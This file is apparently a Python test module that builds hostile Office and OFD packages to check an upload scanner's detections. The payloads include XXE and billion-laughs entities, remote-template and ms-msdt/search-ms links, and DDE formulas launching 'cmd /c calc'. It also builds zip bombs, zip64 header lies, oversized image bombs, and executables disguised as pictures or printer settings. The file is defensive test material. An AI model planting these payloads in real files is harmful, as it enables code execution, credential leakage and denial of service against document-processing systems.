"""Hostile documents, workbooks and invoices of rarer kinds: entities, addresses and pictures in parts seldom looked at."""

from __future__ import annotations

import io
import random
import struct
import zipfile

from tests.portal.shared import samples as make
from tests.portal.shared.attacks import EICAR, EXTERNAL, docx_field, sheet
from tests.portal.shared.rare_pictures import chunks, header, sized_jpeg, tiff_bomb

MEGABYTE = 1024 * 1024
XXE = b'<!DOCTYPE a [<!ENTITY %% p SYSTEM "http://a/a.dtd"> %%p;]><a/>'.replace(b"%%", b"%")
LAUGHS = b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>'


def docx(path: str, content: bytes):
    return lambda: _with(make.docx(), path, content)


def xlsx(path: str, content: bytes):
    return lambda: _with(make.xlsx(), path, content)


def ofd(path: str, content: bytes):
    return lambda: _with(make.ofd(), path, content)


def _with(base: bytes, path: str, content: bytes) -> bytes:
    """The part put in the place of the one of that name."""
    with zipfile.ZipFile(io.BytesIO(base)) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    return make.package({**parts, path: content})


def related(kind: str, target: str, path: str = "word/_rels/document.xml.rels", mode: str = EXTERNAL):
    build = docx if path.startswith("word") else xlsx
    return build(path, make.relation(kind, target, mode))


def text(inner: str, path: str = "word/document.xml"):
    return docx(path, f"<w:document>{inner}</w:document>".encode())


def field(*runs: str):
    return lambda: docx_field(*runs)


def formula(code: str):
    return lambda: sheet(code)


def cells(inner: str, path: str = "xl/worksheets/sheet1.xml", root: str = "worksheet"):
    return xlsx(path, f"<{root}>{inner}</{root}>".encode())


def zip64_lie() -> bytes:
    """A part whose size stands in the 64-bit field: a million million bytes."""
    base = bytearray(make.package({"xl/workbook.xml": b"<workbook/>", "xl/a.xml": b"<a/>"}))
    record = base.rindex(b"PK\x01\x02")
    extra = struct.pack("<HHQ", 1, 8, 1 << 40)
    name = struct.unpack("<H", base[record + 28 : record + 30])[0]
    base[record + 24 : record + 28] = b"\xff" * 4
    base[record + 30 : record + 32] = struct.pack("<H", len(extra))
    at = record + 46 + name
    base[at:at] = extra
    end = base.rindex(b"PK\x05\x06")
    size = struct.unpack("<L", base[end + 12 : end + 16])[0] + len(extra)
    base[end + 12 : end + 16] = struct.pack("<L", size)
    return bytes(base)


def zip64_end() -> bytes:
    """The end says that the 64-bit end knows better, which names four thousand million parts."""
    base = make.xlsx()
    at = base.rindex(b"PK\x05\x06")
    far = struct.pack("<4sQHHLLQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 1 << 32, 1 << 32, 1 << 40, 0)
    pointer = struct.pack("<4sLQL", b"PK\x06\x07", 0, at, 1)
    end = b"PK\x05\x06" + b"\0" * 4 + b"\xff" * 12 + b"\0\0"
    return base[:at] + far + pointer + end


def layers(depth: int = 6) -> bytes:
    """Archives in an archive, each of which holds ten of the next."""
    inner = bytes(10 * MEGABYTE)
    for _ in range(depth):
        inner = make.package({f"{number}.zip": inner for number in range(3)})
    return make.docx(word__media__a_dot_zip=inner)


def all_the_same(count: int = 1500) -> bytes:
    """Every record of the directory names the same bytes of the file, under other names."""
    first = make.package(
        {"xl/workbook.xml": b"<workbook/>", "xl/a.xml": b"<a>" + b" " * 4 * MEGABYTE + b"</a>"}
    )
    start, end = first.rindex(b"PK\x01\x02"), first.rindex(b"PK\x05\x06")
    record, out = first[start:end], first[:end]
    for number in range(count):
        name = b"xl/%05d" % number
        out += record[:28] + struct.pack("<H", len(name)) + record[30:46] + name
    directory = first.index(b"PK\x01\x02")
    return out + struct.pack(
        "<4sHHHHLLH", b"PK\x05\x06", 0, 0, count + 2, count + 2, len(out) - directory, directory, 0
    )


def noise(fill) -> bytes:
    content = bytearray(make.xlsx(xl__media__a_dot_bin=random.Random(1).randbytes(40_000)))
    content[10_000:30_000] = fill(20_000)
    return bytes(content)


def cut_in_half() -> bytes:
    whole = make.xlsx(xl__media__a_dot_bin=random.Random(1).randbytes(40_000))
    return whole[: len(whole) // 2] + bytes(len(whole) - len(whole) // 2)


FLOOD = chunks(header(60_000, 60_000), b"IDAT" + b"x\x9c\x03\0\0\0\0\1", b"IEND")
GIF = (
    b"GIF89a"
    + struct.pack("<HHBBB", 65_535, 65_535, 0, 0, 0)
    + b","
    + struct.pack("<HHHHB", 0, 0, 65_535, 65_535, 0)
    + b"\2\2D\1\0;"
)
BMP = b"BM" + bytes(12) + struct.pack("<LllHHLL", 40, 60_000, 60_000, 1, 24, 0, 0) + bytes(60)
CONTROL = "http://schemas.microsoft.com/office/2006/relationships"
RARE_PACKAGES = {
    "docx: entity from elsewhere in the kinds": ("a.docx", docx("[Content_Types].xml", XXE), "entities"),
    "docx: entity from elsewhere in the relations": ("a.docx", docx("_rels/.rels", XXE), "entities"),
    "docx: entity from elsewhere in the properties": ("a.docx", docx("docProps/core.xml", XXE), "entities"),
    "docx: entities in the data": ("a.docx", docx("customXml/item1.xml", LAUGHS), "entities"),
    "docx: entities in the notes": ("a.docx", docx("word/footnotes.xml", LAUGHS), "entities"),
    "docx: entities under another name": (
        "a.docx",
        docx("word/media/image1.png", b"\xef\xbb\xbf \n" + XXE),
        "entities",
    ),
    "xlsx: entities in the strings": ("a.xlsx", xlsx("xl/sharedStrings.xml", LAUGHS), "entities"),
    "xlsx: entities in utf-16 of the drawing": (
        "a.xlsx",
        xlsx(
            "xl/drawings/drawing1.xml",
            ('<?xml version="1.0" encoding="utf-16"?>' + LAUGHS.decode()).encode("utf-16"),
        ),
        "entities",
    ),
    "ofd: entities in the root": ("a.ofd", ofd("OFD.xml", XXE), "entities"),
    "ofd: entities on a page": ("a.ofd", ofd("Doc_0/Pages/Page_0/Content.xml", LAUGHS), "entities"),
    "docx: names without an end": ("a.docx", docx("word/styles.xml", b"<" + b"a" * 20_000_000), "bomb"),
    "docx: template by settings": (
        "a.docx",
        related("attachedTemplate", "https://a/b.dotm", "word/_rels/settings.xml.rels"),
        "remote",
    ),
    "docx: template in a folder with a door": (
        "a.docx",
        related("attachedTemplate", r"\\a@SSL\DavWWWRoot\b.dotm", "word/_rels/settings.xml.rels"),
        "remote",
    ),
    "docx: picture from the web in the head": (
        "a.docx",
        related("image", "http://a/p.png", "word/_rels/header1.xml.rels"),
        "remote",
    ),
    "docx: picture from the web in the notes": (
        "a.docx",
        related("image", "http://a/p.png", "word/_rels/comments.xml.rels"),
        "remote",
    ),
    "docx: picture by ftp": ("a.docx", related("image", "ftp://a/p.png", mode=""), "remote"),
    "docx: object that starts a tool of help": (
        "a.docx",
        related("oleObject", "mhtml:http://a/b.html!x-usc:http://a/b.html"),
        "ole_object",
    ),
    "docx: link that starts a tool of help": (
        "a.docx",
        related("hyperlink", "ms-msdt:/id PCWDiagnostic"),
        "shared_folder",
    ),
    "docx: link that starts a search": (
        "a.docx",
        related("hyperlink", "search-ms:query=a&amp;crumb=location:\\\\a"),
        "shared_folder",
    ),
    "docx: link that opens in an office program": (
        "a.docx",
        related("hyperlink", "ms-word:ofe|u|http://a/b.dotm"),
        "shared_folder",
    ),
    "docx: frame": ("a.docx", related("frame", "http://a/", "word/_rels/webSettings.xml.rels"), "remote"),
    "docx: control by its relation": ("a.docx", related("control", "activeX1.xml", mode=""), "ole_object"),
    "docx: letters' addressees": (
        "a.docx",
        related("mailMergeSource", "file:///c:/a.mdb", "word/_rels/settings.xml.rels"),
        "remote",
    ),
    "docx: object on the page": (
        "a.docx",
        text('<w:object><o:OLEObject Type="Link" ProgID="Package"/></w:object>'),
        "ole_object",
    ),
    "docx: dde in the head": (
        "a.docx",
        text('<w:fldSimple w:instr="DDEAUTO c:\\\\a b"/>', "word/header1.xml"),
        "dde",
    ),
    "docx: dde in the store of phrases": (
        "a.docx",
        text('<w:fldSimple w:instr="DDE a b"/>', "word/glossary/document.xml"),
        "dde",
    ),
    "docx: link to a workbook": (
        "a.docx",
        field(' LINK Excel.Sheet.12 "\\\\\\\\a\\\\b.xlsx" R1C1 '),
        "remote",
    ),
    "docx: question to a database": ("a.docx", field(' DATABASE \\d "c:\\\\a.mdb" '), "remote"),
    "docx: macro under a picture's name": (
        "a.docx",
        docx("word/media/image1.png", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
        "nested",
    ),
    "docx: letter as a web page": ("a.docx", docx("word/afchunk.mht", b"MIME-Version: 1.0\r\n"), "nested"),
    "docx: rtf inside": ("a.docx", docx("word/a.bin", b"{\\rtf1\\object"), "nested"),
    "docx: archives in archives": ("a.docx", layers, "nested"),
    "docx: virus test file as its text": ("a.docx", docx("word/media/a.txt", EICAR), "program"),
    "docx: script beside": ("a.docx", docx("word/media/a.JS", b"var a"), "program"),
    "docx: picture of 60,000 by 60,000": ("a.docx", docx("word/media/image1.png", FLOOD), "huge_picture"),
    "docx: photograph of 65,500 by 65,500": (
        "a.docx",
        lambda: docx("word/media/image1.jpeg", sized_jpeg(65_500, 65_500))(),
        "huge_picture",
    ),
    "docx: scan of 200,000 by 200,000": (
        "a.docx",
        lambda: docx("word/media/image1.tif", tiff_bomb())(),
        "huge_picture",
    ),
    "xlsx: picture of 65,535 by 65,535": ("a.xlsx", xlsx("xl/media/image1.gif", GIF), "huge_picture"),
    "xlsx: drawing of 60,000 by 60,000": ("a.xlsx", xlsx("xl/media/image1.bmp", BMP), "huge_picture"),
    "ofd: picture of 60,000 by 60,000": ("a.ofd", ofd("Doc_0/Res/image_1.png", FLOOD), "huge_picture"),
    "xlsx: dde in a rule of the cells": (
        "a.xlsx",
        cells(
            "<sheetData/><dataValidations><dataValidation><formula1>cmd|'/c calc'!A0</formula1></dataValidation></dataValidations>"
        ),
        "dde",
    ),
    "xlsx: dde in a colour rule": (
        "a.xlsx",
        cells(
            "<conditionalFormatting><cfRule><formula>cmd|'/c calc'!A0</formula></cfRule></conditionalFormatting>"
        ),
        "dde",
    ),
    "xlsx: dde in a name": (
        "a.xlsx",
        cells(
            "<definedNames><definedName name='a'>cmd|'/c calc'!A0</definedName></definedNames>",
            "xl/workbook.xml",
            "workbook",
        ),
        "dde",
    ),
    "xlsx: dde by wide letters": ("a.xlsx", formula("ｃｍｄ｜'/c calc'!A0"), "dde"),
    "xlsx: link by a call of tables": ("a.xlsx", formula('RTD("a",,"b")'), "dde"),
    "xlsx: program by a link": (
        "a.xlsx",
        formula('HYPERLINK("c:\\windows\\system32\\calc.exe","点这里")'),
        "shared_folder",
    ),
    "xlsx: sheet of another workbook on the web": ("a.xlsx", formula("'http://a/[b.xlsx]c'!A1"), "external"),
    "xlsx: web query": (
        "a.xlsx",
        xlsx(
            "xl/connections.xml",
            b'<connections><connection id="1"><webPr url="http://a/" xml="1"/></connection></connections>',
        ),
        "remote",
    ),
    "xlsx: database": (
        "a.xlsx",
        xlsx(
            "xl/connections.xml",
            b'<connections><connection id="1" refreshOnLoad="1"><dbPr connection="DSN=a"/></connection></connections>',
        ),
        "remote",
    ),
    "xlsx: ribbon": ("a.xlsx", xlsx("customUI/customUI14.xml", b'<customUI onLoad="a"/>'), "macro"),
    "xlsx: macro sheet of other letters": (
        "a.xlsx",
        related("xlIntlMacrosheet", "intl.xml", "xl/_rels/workbook.xml.rels", ""),
        "macro",
    ),
    "xlsx: control's settings": (
        "a.xlsx",
        related("activeXControlBinary", "activeX1.bin", "xl/_rels/a.xml.rels", ""),
        "ole_object",
    ),
    "xlsx: add-in of the web": (
        "a.xlsx",
        related("webextension", "a.xml", "_rels/a.rels".replace("_rels", "xl/_rels"), ""),
        "remote",
    ),
    "xlsx: picture from the web on the sheet": (
        "a.xlsx",
        related("image", "http://a/p.png", "xl/drawings/_rels/drawing1.xml.rels"),
        "remote",
    ),
    "xlsx: background from the web": (
        "a.xlsx",
        cells(
            "<v:background><v:fill src='http://a/p.png'/></v:background>",
            "xl/drawings/vmlDrawing1.vml",
            "xml",
        ),
        "remote",
    ),
    "xlsx: program as printer's settings": (
        "a.xlsx",
        xlsx("xl/printerSettings/printerSettings1.bin", b"MZ\x90\0" + bytes(400)),
        "program",
    ),
    "xlsx: a million million bytes": ("a.xlsx", zip64_lie, "unpacked"),
    "xlsx: end of 64 bits": ("a.xlsx", zip64_end, "too_many_parts"),
    "xlsx: one part under 1,500 names": ("a.xlsx", all_the_same, "unpacked"),
    "xlsx: noise in the middle": ("a.xlsx", lambda: noise(random.Random(7).randbytes), "broken_package"),
    "xlsx: zeros in the middle": ("a.xlsx", lambda: noise(bytes), "broken_package"),
    "xlsx: half of it zeros": ("a.xlsx", cut_in_half, "cut_package"),
    "xlsx: workbook of the binary kind": (
        "a.xlsx",
        lambda: make.package({"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"x"}),
        "wrong_package",
    ),
    "xlsx: page of html": (
        "a.xlsx",
        lambda: b"<html><table><tr><td>1</td></tr></table></html>",
        "not_package",
    ),
    "xlsx: opendocument": (
        "a.xlsx",
        lambda: make.package(
            {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<a/>"}
        ),
        "wrong_package",
    ),
    "docx: java": (
        "a.docx",
        lambda: make.package(
            {"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0", "A.class": b"\xca\xfe\xba\xbe"}
        ),
        "wrong_package",
    ),
    "docx: android": (
        "a.docx",
        lambda: make.docx(classes_dot_dex=b"dex\n035\0" + bytes(90), AndroidManifest_dot_xml=b"\3\0\x08\0"),
        "broken_markup",
    ),
    "docx: rar": ("a.docx", lambda: b"Rar!\x1a\x07\x01\0" + bytes(90), "not_package"),
    "ofd: program beside the invoice": (
        "a.ofd",
        ofd("Doc_0/Attachs/a.dat", b"MZ\x90\0" + bytes(90)),
        "program",
    ),
    "ofd: document beside the invoice": ("a.ofd", ofd("Doc_0/Attachs/a.pdf", make.pdf()), "nested"),
    "ofd: a sheet's script": ("a.ofd", ofd("Doc_0/Attachs/a.hta", b"<script>1</script>"), "program"),
    "ofd: shared folder on a page": (
        "a.ofd",
        ofd("Doc_0/Pages/Page_0/Content.xml", b"<a><Action><URI URI='\\\\a\\b'/></Action></a>"),
        "shared_folder",
    ),
}
